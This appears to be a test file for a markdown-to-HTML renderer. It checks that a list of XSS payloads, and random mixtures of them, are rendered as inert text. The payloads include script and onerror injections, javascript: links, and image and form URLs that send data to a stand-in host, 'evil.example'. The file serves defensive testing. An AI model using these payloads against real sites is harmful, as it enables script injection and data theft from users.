"""An answer cannot act in the reader's name, whatever it holds."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from promptyflow_lab.client.markdown import to_html

PAYLOADS = [
    "<script>window.__x = 1</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/?q=secret)",
    '![" onerror="alert(1)](https://evil.example/x)',
    '[x](https://ok.example/" onclick="alert(1))',
    "[x](https://ok.example 'a\" onmouseover=\"alert(1)')",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>`\n\n```html\n<script>alert(1)</script>\n```",
    "<!--><script>alert(1)</script>-->",
    "<style>@import 'https://evil.example'</style>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    "| <b onclick=x> |\n|-|\n| <form action=https://evil.example> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<\x00script>alert(1)</script>",
]
PARTS = st.sampled_from(
    [*PAYLOADS, "<", ">", '"', "'", "`", "```\n", "[", "](", ")", "!", "\n", " ", "&#x", "on=", "a"]
)


class Witness(HTMLParser):
    """Notes every tag and attribute that a browser could act on."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found += [(tag, name, value) for name, value in attrs] or [(tag, None, None)]

    def handle_comment(self, data):
        self.found.append(("comment", data, None))

    def handle_decl(self, decl):
        self.found.append(("declaration", decl, None))


def assert_harmless(html):
    witness = Witness()
    witness.feed(html)
    witness.close()
    for tag, name, value in witness.found:
        assert tag not in {"script", "style", "img", "svg", "iframe", "form", "comment", "input"}
        assert name in {None, "href", "target", "rel"}
        if name == "href":
            assert value.startswith(("http://", "https://", "mailto:"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_becomes_text(payload):
    assert_harmless(to_html(payload))


@given(st.lists(PARTS, max_size=12).map("".join))
def test_no_mixture_of_payloads_gets_through(text):
    assert_harmless(to_html(text))


def test_formatting_stays():
    html = to_html(
        "# Title\n\nA **bold** [link](https://ok.example/?a=1&b=2) and `a < b`.\n\n- one\n"
    )
    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong>" in html
    assert 'href="https://ok.example/?a=1&amp;b=2"' in html
    assert "<code>a &lt; b</code>" in html
    assert "<li>one</li>" in html


def test_what_looks_like_a_tag_is_still_to_be_read():
    assert "&lt;script&gt;" in to_html("<script>")
